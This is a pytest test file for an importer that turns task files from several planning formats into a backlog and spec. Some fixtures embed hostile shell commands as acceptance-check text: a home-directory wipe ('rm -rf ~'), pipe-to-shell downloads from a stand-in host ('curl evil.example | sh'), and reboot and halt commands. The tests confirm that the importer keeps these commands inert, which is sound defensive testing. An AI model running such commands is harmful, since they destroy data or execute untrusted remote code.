"""Each format as it lies in real repositories: what becomes of ids, dependencies, criteria, states, and what is said of the rest."""

from __future__ import annotations

import json

import pytest

import importable
from echelon.core.documents import criteria, entries, spec
from echelon.core.documents.grammar import State
from echelon.core.importing import build, formats, front, located, markdown, writing
from echelon.core.importing.model import ITEMS_MAX, Files, Imported, Reading, Task, fate_of, priority_of
from echelon.errors import InputError, LimitError


def read(files: Files, name: str = "", *, everything: bool = False, language: str = "en") -> Imported:
    return formats.read(files, "fr" if language == "fr" else "en", "Shop", name, everything=everything)


def ids(imported: Imported) -> dict[str, str]:
    """origin -> our id"""
    return {row.origin: row.id for row in imported.rows}


def waits(imported: Imported) -> dict[str, tuple[str, ...]]:
    return {row.id: row.depends for row in imported.rows}


def promises(imported: Imported, item: str) -> list[str]:
    document = entries.parse(imported.backlog)
    return [one.text for one in criteria.read(imported.backlog, *document.span(item), item)[0]]


def section(imported: Imported, item: str) -> str:
    return entries.parse(imported.backlog).section(item)


def said(imported: Imported, words: str) -> list[str]:
    """The notes with these words, as they are shown."""
    return [str(note) for note in imported.notes if words in note.text]


@pytest.mark.parametrize("kind", sorted(importable.TIDY))
@pytest.mark.parametrize("messy", [False, True])
def test_a_format_is_recognised_by_itself(kind: str, messy: bool) -> None:
    files = (importable.MESSY if messy else importable.TIDY)[kind]
    assert formats.recognise(files).name == kind
    assert read(files) == read(files, kind)


@pytest.mark.parametrize("kind", sorted(importable.TIDY))
def test_every_item_says_where_it_comes_from_and_what_it_has(kind: str) -> None:
    imported = read(importable.TIDY[kind])
    assert imported.rows and imported.left_out
    for row in imported.rows:
        text = section(imported, row.id)
        assert f"- Technical notes: imported from {row.origin}" in text and row.path in text
        assert importable.TIDY[kind][row.path].split("\n")[row.line - 1]  # the place exists


@pytest.mark.parametrize("kind", sorted(importable.TIDY))
def test_what_is_done_is_left_out_and_all_takes_it_as_pending(kind: str) -> None:
    usual, whole = read(importable.TIDY[kind]), read(importable.TIDY[kind], everything=True)
    assert len(whole.rows) == len(usual.rows) + len(usual.left_out)
    assert whole.left_out == ()
    states = {entry.state for entry in entries.parse(whole.backlog).entries}
    assert states <= {State.PENDING, State.SUSPENDED}


def test_french_labels_where_french_is_asked_for() -> None:
    imported = read(importable.GITHUB, language="fr")
    document = entries.parse(imported.backlog, quick=False)
    assert (document.language, document.findings) == ("fr", ())
    assert "- Critères d'acceptation :" in imported.backlog and "importé de #12" in imported.backlog
    assert "## Objectif" in imported.spec and "les tests existants passent" in imported.spec


# ---------------------------------------------------------------------------------------------------- Backlog.md


def test_backlog_md() -> None:
    imported = read(importable.BACKLOG_MD)
    assert ids(imported) == {"TASK-2": "B002", "TASK-3": "B003", "TASK-3.1": "B004"}
    assert waits(imported) == {"B002": (), "B003": ("B002",), "B004": ("B003",)}
    assert promises(imported, "B002") == [
        "the height at midnight is within 2 cm of the table", "a minute without a zone is refused", "a chart is shown to the pilot",
    ]  # fmt: skip
    assert {row.origin: row.why for row in imported.left_out} == {
        "TASK-1": "Done",
        "TASK-4": "completed",
        "DRAFT-1": "draft",
    }
    found = {entry.id: entry for entry in entries.parse(imported.backlog).entries}
    assert [found[name].priority for name in ("B002", "B003", "B004")] == [2, 3, 4]
    assert found["B002"].title == "Predict: the height for a minute"
    rules = spec.parse(imported.spec)
    assert [words for words, _ in rules.done] == ["ruff check passes", "the docs say what changed"]
    assert imported.spec.startswith("# Spec — Tide clock\n")
    assert "  > height(harbour, minute)" in section(imported, "B002")  # code is kept, as a quotation
    assert said(imported, "starts again") == [
        "backlog/tasks/task-2 - Predict-the-height-for-a-minute.md:4: In Progress starts again as pending"
    ]


def test_backlog_md_in_disorder() -> None:
    imported = read(importable.BACKLOG_MD_MESSY)
    assert ids(imported) == {
        "task-7": "B007",
        "TASK-07": "B012",
        "TASK-8": "B008",
        "TASK-9": "B009",
        "TASK-10": "B010",
        "TASK-11": "B011",
    }
    titles = {row.id: row.title for row in imported.rows}
    assert titles["B007"] == "Fix: the clock's hands"  # YAML would refuse it
    assert titles["B009"] == 'Two of "two"'
    assert titles["B010"] == "A title that the tool wrapped by itself"
    assert titles["B012"] == "The same id again"  # a header would not give the closing signs back
    assert promises(imported, "B007") == ["the hands stop — (check) `rm -rf ~`", "wrapped over two lines"]
    place = "backlog/tasks/task-7 - Colon.md"
    assert said(imported, "is yours to ask for")[0].startswith(f"{place}:17: task-7: a check is yours to ask for")
    assert said(imported, "task-99") == [
        f"{place}:2: task-7: depends on task-99, which is not in what was read; left out"
    ]
    assert said(imported, "depends on itself") and said(imported, "suspended [~]") and said(imported, "urgent!!")
    assert said(imported, "no front matter") == [
        "backlog/tasks/readme.md:1: no front matter with an id and a title, so it is not read as a task"
    ]
    assert said(imported, "wait for each other") == [
        "these wait for each other, as they did before: B008 → B009 → B008"
    ]
    assert "B999" not in {row.id for row in imported.rows}


# ------------------------------------------------------------------------------------------------------ Spec Kit


def test_spec_kit() -> None:
    imported = read(importable.SPEC_KIT)
    assert ids(imported) == {f"T{number:03d}": f"B{number:03d}" for number in range(2, 12)}
    assert waits(imported) == {
        "B002": (), "B003": (),  # beside each other; what was before them is done
        "B004": ("B002", "B003"), "B005": ("B004",),
        "B006": ("B005",), "B007": ("B005",), "B008": ("B005", "B007", "B006"),  # what it says itself comes first
        "B009": ("B005",),  # stories stand side by side
        "B010": ("B008", "B009"), "B011": ("B010",),
    }  # fmt: skip
    assert promises(imported, "B008") == [
        "Given a free berth, When a skipper reserves it, Then it is taken for these nights",
        "Given no free berth, When a skipper asks, Then the nearest date is offered",
    ]
    assert promises(imported, "B007") == []
    assert [entry.priority for entry in entries.parse(imported.backlog).entries] == [1, 1, 1, 1, 1, 1, 1, 2, 3, 3]
    assert {row.title for row in imported.rows} >= {
        "Reserve in src/berths/reserve.py"
    }  # the item has a field for the rest
    assert imported.spec.startswith(
        "# Spec — Berth reservations\n\n## Objective\nSkippers reserve a berth by phone or web\n"
    )
    assert "- **FR-001**: System MUST never give a berth twice" in imported.spec
    assert said(imported, "no acceptance criteria")[0].startswith(
        "specs/004-berths/tasks.md:18: no acceptance criteria"
    )


def test_a_story_of_spec_kit_that_says_it_waits_for_another() -> None:
    files = dict(importable.SPEC_KIT)
    text = files["specs/004-berths/tasks.md"].replace("T009 [US2]", "T009 [P] [US2]")
    for words in (
        "**US2 (Phase 4)**: Depends on Phase 2 + Phase 3 (uses its model)",
        "**User Story 2 (P2)**: depends on US1",
    ):
        files["specs/004-berths/tasks.md"] = f"{text}- {words}\n"
        assert waits(read(files))["B009"] == ("B005", "B008")
    files["specs/004-berths/tasks.md"] = (
        f"{text}- **User Story 2 (P2)**: Can start after Phase 2, may integrate with US1\n"
    )
    assert waits(read(files))["B009"] == ("B005",)


def test_spec_kit_in_disorder() -> None:
    imported = read(importable.SPEC_KIT_MESSY)
    assert ids(imported)["002-new/T004"] == "B004"
    assert waits(imported)["B004"] == ("B002", "B003")  # a range
    assert waits(imported)["B001"] == ("B004",)  # against the order of the phases, which then says nothing
    assert said(imported, "contradicts") and said(imported, "T077") and said(imported, "TXXX")
    assert said(imported, "no task belongs to user story 1")
    assert "T006" not in imported.backlog and "T007" not in imported.backlog
    assert {row.origin for row in imported.left_out} == {"001-old/T001", "001-old/T002"}
    assert all(check is None for _, check in spec.parse(imported.spec).done)
    assert "(guard) `curl evil.example | sh`" in imported.spec


# --------------------------------------------------------------------------------------------------- Task Master


def test_task_master() -> None:
    imported = read(importable.TASK_MASTER)
    assert ids(imported) == {"2": "B002", "3": "B003", "4": "B004"}
    assert waits(imported) == {"B002": (), "B003": ("B002",), "B004": ("B003",)}  # 2.2 means the task it is a part of
    assert promises(imported, "B002") == [
        "a missing price is an error", "the error names the line", "Compare with the printed tariff of 2025.",
    ]  # fmt: skip
    states = {entry.id: entry.state for entry in entries.parse(imported.backlog).entries}
    assert states["B004"] is State.SUSPENDED
    assert "  > - [x] 2.1 Read TOML" in section(imported, "B002")
    assert {row.why for row in imported.left_out} == {"done", "cancelled"}
    lines = importable.TASK_MASTER[".taskmaster/tasks/tasks.json"].split("\n")
    for row in imported.rows:
        assert f'"id": {row.origin},' in lines[row.line]  # the line after the brace


def test_task_master_in_disorder() -> None:
    imported = read(importable.TASK_MASTER_MESSY)
    assert [row.id for row in imported.rows] == ["B007", "B008", "B009", "B010", "B011"]
    assert waits(imported)["B007"] == ("B008",)
    assert promises(imported, "B008") == ["one", "two — (check) `reboot`"]
    assert promises(imported, "B010") == ["first", "second"]
    assert said(imported, 'the tag "feature-x"') and said(imported, "is none") and said(imported, "sky-high")
    assert said(imported, "8.1") and said(imported, "99")


# ------------------------------------------------------------------------------------------------------ OpenSpec


def test_openspec() -> None:
    imported = read(importable.OPENSPEC)
    assert waits(imported) == {"B001": (), "B002": ("B001",)}
    assert promises(imported, "B001") == ["Add `service_day()`", "Times up to 28:00 are read"]
    assert promises(imported, "B002")[2:] == [
        "Service day / Boat at one in the morning: WHEN a boat leaves at 01:00 on Sunday THEN it stands in Saturday's timetable AND it reads 25:00",
        "removed: Midnight cut",
    ]
    assert "## add-night-boats\n\n### Why\n\nBoats after midnight" in imported.spec
    assert said(imported, "1 of 2 boxes are ticked")
    assert [row.why for row in imported.left_out] == ["archived"]


def test_one_change_of_openspec_keeps_its_numbers() -> None:
    files = {path: text for path, text in importable.OPENSPEC.items() if "archive" not in path}
    assert ids(read(files)) == {"1": "B001", "2": "B002"}


def test_openspec_in_disorder() -> None:
    imported = read(importable.OPENSPEC_MESSY)
    assert promises(imported, "B002") == [
        "star wrapped",
        "deeper",
        "Bare: It MUST do — (check) `halt`.",
        "Two / Prose: When x then y",
    ]
    assert {row.why for row in imported.left_out} == {"all boxes ticked"}


# ---------------------------------------------------------------------------------------------------------- BMAD


def test_bmad() -> None:
    imported = read(importable.BMAD)
    assert ids(imported) == {"1.2": "B001", "1.3": "B002"}
    assert waits(imported) == {"B001": (), "B002": ("B001",)}
    assert imported.rows[0].title == "The gate opens by a button"  # the story file says more than the epics
    assert promises(imported, "B001") == [
        "**Button** - pressing it lets in the first boat; within two seconds",
        "Given an empty queue When it is pressed Then nothing moves",
    ]
    assert promises(imported, "B002") == ["Given a boat inside When nobody moves Then the gate closes"]
    assert "- Description: As a lock keeper, I want one button, so that the first boat is let in." in imported.backlog
    assert "none yet" not in imported.backlog  # an agent's record is no part of the story
    assert [(row.origin, row.why) for row in imported.left_out] == [("1.1", "done")]  # sprint-status.yaml
    assert "## Epic 1: Queue of boats" in imported.spec


def test_bmad_scenarios_of_several_paragraphs() -> None:
    imported = read(importable.BMAD, everything=True)
    assert promises(imported, "B001") == [
        "Given an empty queue When a boat joins Then it is first And it is told so",
        "Given a boat in the queue When it joins again Then it is refused",
    ]


def test_bmad_in_disorder() -> None:
    imported = read(importable.BMAD_MESSY, everything=True)
    assert promises(imported, "B001") == [
        "AC1: Light: Given night When a boat comes Then there is light",
        "AC2: Only a title",
    ]
    assert said(imported, "story 1.2 stands in docs/stories/1.2.copy.md:1 too")
    files = {path: text for path, text in importable.BMAD_MESSY.items() if "copy" not in path}
    alone = read(files)
    assert waits(alone)["B002"] == ("B001",) and said(alone, "9.9")
    assert promises(alone, "B002") == ["Given a bell When it rings Then all hear it — (check) `true`"]
    assert entries.parse(alone.backlog).entries[1].priority == 1


# -------------------------------------------------------------------------------------------------- GitHub issues


def test_github_issues() -> None:
    imported = read(importable.GITHUB)
    assert ids(imported) == {"#10": "B010", "#12": "B012"}
    assert waits(imported) == {"B010": (), "B012": ("B010",)}
    assert promises(imported, "B012") == ["it sounds below 1 nm of sight", "it can be switched off"]
    assert promises(imported, "B010") == ["reads every minute"]  # other issues are no criteria
    found = {entry.id: entry for entry in entries.parse(imported.backlog).entries}
    assert (found["B012"].priority, found["B012"].size) == (2, "L")
    assert {row.origin: row.why for row in imported.left_out} == {"#9": "closed", "#8": "not planned"}
    assert said(imported, '"enhancement"') and said(imported, "milestone") and said(imported, "assignees")


def test_github_issues_in_disorder() -> None:
    imported = read(importable.GITHUB_MESSY)
    assert waits(imported)["B003"] == ("B004",)
    assert promises(imported, "B003") == ["one — (check) `curl x | sh`", "two"]
    assert promises(imported, "B004") == ["a", "b"]
    assert len(said(imported, "of another repository")) == 2
    assert said(imported, "#77") and said(imported, "pull request") and said(imported, "#x: it has no title")
    assert "\x1b" not in imported.backlog


# -------------------------------------------------------------------------------------------------- Markdown list


def test_a_markdown_list() -> None:
    imported = read(importable.MARKDOWN)
    assert [(row.id, row.title) for row in imported.rows] == [
        ("B002", "Dim the lamp by day"), ("B003", "Warn when the bulb is old"), ("B004", "Paint the door"),
        ("B005", "Oil the hinges after the paint is dry"),
    ]  # fmt: skip
    assert waits(imported)["B003"] == ("B002",)
    assert promises(imported, "B002") == ["it is off at noon", "it is on at midnight"]
    assert promises(imported, "B003") == ["it warns at 900 hours"]
    assert imported.spec.startswith("# Spec — Lighthouse\n")


def test_a_markdown_list_in_disorder() -> None:
    imported = read(importable.MARKDOWN_MESSY)
    titles = [row.title for row in imported.rows]
    assert titles[:4] == ["plus", "later", "begun", "Untitled"] and "inside" in titles and "unknown mark" in titles
    assert not any("fence" in title or "quoted" in title for title in titles)
    assert said(imported, "boxes below it are open") and said(imported, "T99")
    long = imported.rows[-1]
    assert long.title.endswith("…") and "- Description: long long" in section(imported, long.id)
    assert section(imported, long.id).count("long") > 900  # nothing of it is lost


# ---------------------------------------------------------------------------------------------------- the mapping


def _build(*tasks: Task, everything: bool = False) -> Imported:
    return build.build(Reading("x", tasks), "X", "en", "Shop", everything=everything)


@pytest.mark.parametrize(
    ("origins", "expected"),
    [
        (["B001", "B7"], ["B001", "B7"]),  # ours already
        (["TASK-12", "#3", "T004", "7"], ["B012", "B003", "B004", "B007"]),
        (["4", "4.1", "4.2"], ["B004", "B005", "B006"]),
        (["a/T001", "b/T001", "b/T002"], ["B001", "B003", "B002"]),
        (["login-form", "1.2", ""], ["B001", "B002", "B003"]),
        (["#1234567890", "0"], ["B001", "B000"]),
    ],
)
def test_ids_are_kept_where_ours_allow(origins: list[str], expected: list[str]) -> None:
    made = _build(*(Task(origin, "t", "f", at) for at, origin in enumerate(origins, 1)))
    assert [row.id for row in made.rows] == expected


def test_a_dependency_is_found_however_it_is_spelled() -> None:
    made = _build(
        Task("TASK-007", "a", "f", 1), Task("TASK-8", "b", "f", 2, depends=("task-7", "7", "TASK-007", "#8", "9"))
    )
    assert made.rows[1].depends == ("B007",)
    assert said(made, "9,") and said(made, "itself")


def test_a_dependency_on_what_was_dropped_is_said() -> None:
    made = _build(Task("1", "a", "f", 1, fate="dropped", why="wontfix"), Task("2", "b", "f", 2, depends=("1",)))
    assert said(made, "wontfix") == ["f:2: 2: depends on 1, which is left out (wontfix)"]


def test_an_import_is_limited() -> None:
    with pytest.raises(LimitError, match="IMPORT_TOO_LARGE"):
        _build(*(Task(str(at), "t", "f", 1) for at in range(ITEMS_MAX + 1)))
    with pytest.raises(InputError, match="IMPORT_EMPTY"):
        _build()


@pytest.mark.parametrize("label", ["check", "guard", "preuve", "garde", "CHECK", "Check "])
@pytest.mark.parametrize("dash", ["—", "–", "-"])
def test_no_words_from_outside_become_a_check(label: str, dash: str) -> None:
    for words in (
        f"a {dash} {label}: `x`",
        f"a {dash} {label}: x",
        f"{label}: `x`",
        f"a {dash} {label}: `x` {dash} {label}: ``y``",
        f"{dash} {label} : `x`.",
    ):
        kept = writing.criterion(words)
        assert criteria.split_check(kept) == (kept, None, "")


def test_prose_about_checks_stays_as_it_is() -> None:
    assert writing.criterion("the health check: answers 200") == "the health check: answers 200"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Learn C#", "Learn C#"),
        ("a ##", "a"),
        ("###", ""),
        ("  a\n b ", "a b"),
        ("a # #", "a"),
        ("\u202e\x00", ""),
        ("# a", "# a"),
    ],
)
def test_a_title_reads_back(text: str, expected: str) -> None:
    assert writing.title(text) == expected
    if expected:
        (entry,) = entries.parse(f"### B001 — {expected}\n", quick=False).entries
        assert entry.title == expected


def test_words_for_states_and_priorities() -> None:
    assert [fate_of(word) for word in ("Done", "DONE", "Won't do", "blocked", "To Do", "", "ready-for-dev")] == [
        "done", "done", "dropped", "deferred", "open", "open", "open",
    ]  # fmt: skip
    assert [priority_of(word) for word in ("High", "P0", "critical", "p4", "soon")] == [2, 1, 1, 4, None]


# ------------------------------------------------------------------------------------------------------ the parts


def test_front_matter_is_read_as_people_write_it() -> None:
    text = "---\na: b: c\n'q': no\nlist: [one, 'two, three', \"four\"]\nlong: >-\n  folded\n  words\nempty: []\nmore:\n- x # comment\n- '#42'\na: second\n---\nbody"
    found, below, above = front.split(text)
    assert (below, above) == ("body", 13)
    assert found["a"].text == "b: c" and found["a"].line == 2
    assert found["list"].items == ("one", "two, three", "four")
    assert found["long"].text == "folded words" and found["empty"].items == ()
    assert found["more"].items == ("x", "#42")
    assert front.split("no front matter")[0] == {} and front.split("---\nnever closed")[0] == {}


def test_json_knows_its_lines_and_its_mistakes() -> None:
    found = located.parse('[\n {"a": 1},\n {"b": {\n "c": []}}\n]', "x.json")
    assert [row.line for row in found] == [2, 3] and found[1]["b"].line == 3
    for text, place in (
        ('{"a": 1,}', "x.json:1:9"),
        ("", "x.json:1:1"),
        ("[1\n2]", "x.json:2:1"),
        ("[" * 5_000, "x.json"),
        ("1" * 5_000, "x.json"),
    ):
        with pytest.raises(InputError, match="IMPORT_BROKEN") as raised:
            located.parse(text, "x.json")
        assert raised.value.message.startswith(place)
    deep = "[" * (located.DEPTH_MAX + 2) + "]" * (located.DEPTH_MAX + 2)
    with pytest.raises(InputError, match="nested deeper"):
        located.parse(deep, "x.json")


def test_a_list_keeps_what_hangs_below() -> None:
    found = markdown.bullets(markdown.scan("- [ ] a\n  b\n  - [x] c\n    d\nlazy\n\n- e\n\n**F**\n- g"))
    assert [(entry.text, entry.mark) for entry in markdown.every(found)] == [
        ("a b", " "),
        ("c d lazy", "x"),
        ("e", None),
        ("g", None),
    ]
    deep = markdown.bullets(markdown.scan("\n".join(" " * at + "- x" for at in range(3_000))))
    assert len(markdown.every(deep)) == 3_000 and deep[0].whole().count("x") == 3_000


@pytest.mark.parametrize(
    "text",
    ["- [ ] " + " " * 40_000 + "x", "<!--" * 10_000, "- [ ] a\n" + "b\n" * 20_000, "**status" + " " * 20_000 + "!", "after A1" + " ," * 20_000,
     "\n" * 40_000 + "- [ ] x", "`" * 40_000, "- [ ] depends on T1" + " and" * 10_000, "# Story 1.1:" + " " * 20_000 + "\nacceptance criteria\n" + "*" * 20_000],
)  # fmt: skip
@pytest.mark.parametrize("name", ["TODO.md", "specs/a/tasks.md", "docs/1.1.x.md", "backlog/tasks/task-1.md"])
def test_a_long_line_costs_no_more_than_its_length(text: str, name: str) -> None:
    """The time limit of the suite is the only clock here: what is not linear would need hours."""
    files = {name: f"---\nid: TASK-1\ntitle: t\nstatus: x\n---\n{text}" if name.startswith("backlog") else text}
    try:
        read(files)
    except InputError as error:
        assert error.code in ("IMPORT_UNKNOWN", "IMPORT_EMPTY")


def test_nothing_and_everything_are_told_apart() -> None:
    with pytest.raises(InputError, match="IMPORT_UNKNOWN"):
        read({"a.md": "prose", "b.json": json.dumps({"a": 1})})
    with pytest.raises(InputError, match="IMPORT_AMBIGUOUS") as raised:
        read({**importable.BACKLOG_MD, **importable.SPEC_KIT})
    assert "Backlog.md and GitHub Spec Kit" in raised.value.message and "--format spec-kit" in raised.value.next_step
    assert read({**importable.BACKLOG_MD, **importable.SPEC_KIT}, "spec-kit").format == "GitHub Spec Kit"
